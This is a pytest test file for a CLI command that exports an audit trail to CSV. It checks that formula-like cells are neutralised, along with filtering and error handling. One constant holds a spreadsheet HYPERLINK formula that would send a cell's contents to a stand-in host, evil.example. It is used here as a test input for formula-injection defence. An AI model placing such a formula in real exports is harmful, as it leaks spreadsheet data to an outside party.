"""`tuiconsole activity export`: CSV of the audit trail, formula-safe, with progress on stderr."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from clikit import assert_clean_failure, cli_env, invoke, run_cli
from testkit import SEED_DIR, customer_id
from tuiconsole.config import Settings
from tuiconsole.services.container import build_services, cli_actor

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def env(sqlite_url: str, tmp_path: Path) -> dict[str, str]:
    """Seeded database with a few events, one of a customer named like a formula."""
    env = cli_env(tmp_path, sqlite_url)
    assert invoke("db", "load-seed", SEED_DIR, env=env).returncode == 0
    svc = build_services(Settings(database_url=sqlite_url))
    try:
        me = cli_actor()
        site = svc.scopes.by_code(me, "acme-us").id
        evil, _ = svc.customers.create(
            me, site, username=EVIL.replace(" ", ""), email="", first_name="Eve", last_name="Vil"
        )
        svc.customers.lock(me, evil.id, "=1+1 looked odd")
        olga = customer_id(svc, "globex-us", "olga.petrova")
        svc.customers.lock(me, olga, "-chargeback")
    finally:
        svc.close()
    return env


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_export_with_progress_and_neutralised_cells(env: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "export" / "activity.csv"
    out.parent.mkdir()
    result = run_cli("activity", "export", "--out", out, env=env)
    assert result.returncode == 0, result.stderr
    rows = read(out)
    assert f"Exported {len(rows)} activity events" in result.stdout
    assert f"Exporting activity ({len(rows)} rows)" in result.stderr
    assert {r["action"] for r in rows} >= {"seed_loaded", "customer_created", "locked"}
    evil = [r for r in rows if r["customer"].endswith(EVIL.replace(" ", ""))]
    assert evil and all(r["customer"] == "'" + EVIL.replace(" ", "") for r in evil)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert [p.name for p in out.parent.iterdir()] == ["activity.csv"]  # no temp file left


def test_export_filters_by_scope_and_date(env: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "globex.csv"
    result = invoke("activity", "export", "--out", out, "--scope", "globex", "--since", "2000-01-01", env=env)
    assert result.returncode == 0, result.stderr
    rows = read(out)
    assert [(r["scope"], r["customer"], r["action"]) for r in rows] == [
        ("globex-us", "olga.petrova", "locked")
    ]
    assert rows[0]["details"] == "reason: -chargeback"
    future = tmp_path / "future.csv"
    assert invoke("activity", "export", "--out", future, "--since", "2999-01-01", env=env).returncode == 0
    assert read(future) == []


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--scope", "atlantis"], "Unknown scope 'atlantis'"),
        (["--out", "{tmp}/missing/a.csv"], "does not exist"),
    ],
)
def test_export_errors_are_one_line(env: dict[str, str], tmp_path: Path, args: list[str], words: str) -> None:
    args = [a.format(tmp=tmp_path) for a in args]
    if "--out" not in args:
        args += ["--out", str(tmp_path / "a.csv")]
    message = assert_clean_failure(invoke("activity", "export", *args, env=env))
    assert words in message
    assert not (tmp_path / "a.csv").exists()


def test_a_bad_date_is_a_usage_error(env: dict[str, str], tmp_path: Path) -> None:
    result = invoke("activity", "export", "--out", tmp_path / "a.csv", "--since", "yesterday", env=env)
    assert result.returncode == 2 and "--since" in result.stderr
